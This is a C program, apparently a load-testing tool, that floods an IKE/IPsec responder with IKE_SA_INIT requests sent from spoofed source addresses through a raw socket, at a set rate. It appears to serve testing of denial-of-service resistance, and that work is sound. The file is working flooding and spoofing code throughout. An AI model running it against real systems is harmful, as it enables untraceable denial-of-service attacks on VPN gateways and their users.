/*
 * flood_spoof - sends IKE_SA_INIT requests from addresses that are not its own, at a given rate,
 * and waits for no answer.
 *
 *	flood_spoof TARGET PORT FIRST_SOURCE SOURCES COUNT RATE
 *
 * Sources are FIRST_SOURCE, FIRST_SOURCE + 1, … (IPv4), with random ports.  RATE is in datagrams a
 * second; 0: as fast as it goes.  A raw socket, BURST datagrams for each call.  Needs CAP_NET_RAW.
 *
 * Prints one JSON line: {"sent", "seconds"}.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>

#include "flood.h"

enum { BURST = 64 };

struct datagram {
	struct iphdr ip;
	struct udphdr udp;
	uint8_t request[REQUEST_LEN];
} __attribute__((packed));

static struct datagram datagrams[BURST];
static struct iovec iov[BURST];
static struct mmsghdr msgs[BURST];

static void die(const char *what)
{
	perror(what);
	exit(1);
}

/* The kernel fills in id and checksum of the IP header; UDP over IPv4 may go without. */
static void prepare(struct sockaddr_in *target)
{
	for (int i = 0; i < BURST; i++) {
		struct datagram *d = &datagrams[i];

		d->ip = (struct iphdr){ .version = 4,
					.ihl = 5,
					.ttl = 64,
					.protocol = IPPROTO_UDP,
					.tot_len = htons(sizeof(*d)),
					.daddr = target->sin_addr.s_addr };
		d->udp.dest = target->sin_port;
		d->udp.len = htons(sizeof(d->udp) + REQUEST_LEN);
		memcpy(d->request, request_template, REQUEST_LEN);
		iov[i] = (struct iovec){ d, sizeof(*d) };
		msgs[i].msg_hdr = (struct msghdr){ .msg_name = target,
						   .msg_namelen = sizeof(*target),
						   .msg_iov = &iov[i],
						   .msg_iovlen = 1 };
	}
}

static unsigned send_burst(int fd, unsigned n, uint32_t first, uint32_t sources, uint64_t *state)
{
	int sent;

	for (unsigned i = 0; i < n; i++) {
		uint64_t r = next_random(state);

		datagrams[i].ip.saddr = htonl(first + (uint32_t)(r >> 32) % sources);
		datagrams[i].udp.source = htons((uint16_t)(1024 + r % 60000));
		renew(datagrams[i].request, state);
	}
	sent = sendmmsg(fd, msgs, n, 0);
	if (sent < 0 && errno != ENOBUFS && errno != EAGAIN)
		die("sendmmsg");
	return sent < 0 ? 0 : (unsigned)sent;
}

static double seconds(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

/* So many should have left by now; ahead of that it sleeps until the next burst is due. */
static void keep_pace(double start, uint64_t sent, double rate)
{
	double ahead = rate > 0 ? start + (double)sent / rate - seconds() : 0;
	struct timespec pause = { 0, (long)(ahead * 1e9) };

	if (ahead > 0 && ahead < 1)
		nanosleep(&pause, NULL);
}

int main(int argc, char **argv)
{
	struct sockaddr_in target = { .sin_family = AF_INET };
	struct in_addr first;
	uint64_t state, count, sent = 0;
	uint32_t sources;
	double start;
	int fd;

	if (argc != 7 || inet_pton(AF_INET, argv[1], &target.sin_addr) != 1 ||
	    inet_pton(AF_INET, argv[3], &first) != 1 ||
	    (sources = (uint32_t)strtoul(argv[4], NULL, 10)) == 0) {
		fprintf(stderr, "usage: flood_spoof TARGET PORT FIRST_SOURCE SOURCES COUNT RATE\n");
		return 2;
	}
	target.sin_port = htons((uint16_t)strtoul(argv[2], NULL, 10));
	count = strtoull(argv[5], NULL, 10);
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (fd < 0 || getrandom(&state, sizeof(state), 0) != sizeof(state))
		die("socket");
	prepare(&target);
	/* A raw socket takes the protocol from the header; a port there would be refused. */
	target.sin_port = 0;
	start = seconds();
	while (sent < count) {
		uint64_t left = count - sent;

		sent += send_burst(fd, left < BURST ? (unsigned)left : BURST, ntohl(first.s_addr),
				   sources, &state);
		keep_pace(start, sent, strtod(argv[6], NULL));
	}
	printf("{\"sent\":%llu,\"seconds\":%.6f}\n", (unsigned long long)sent, seconds() - start);
	return 0;
}
